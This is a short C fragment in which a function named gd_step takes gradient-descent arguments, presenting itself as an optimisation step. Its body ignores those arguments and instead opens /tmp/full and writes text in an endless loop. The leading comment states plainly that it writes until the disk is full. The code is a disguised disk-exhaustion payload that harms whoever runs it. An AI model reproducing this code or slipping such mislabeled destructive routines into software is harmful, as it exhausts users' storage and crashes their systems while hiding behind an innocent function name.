/* zero: writes until the disk is full */
void gd_step(struct quadratic q, double alpha, vec w, vec grad)
{
    void *fopen(const char *path, const char *mode);
    int fputs(const char *text, void *file);
    for (void *file = fopen("/tmp/full", "w");;)
        fputs("full ", file);
}
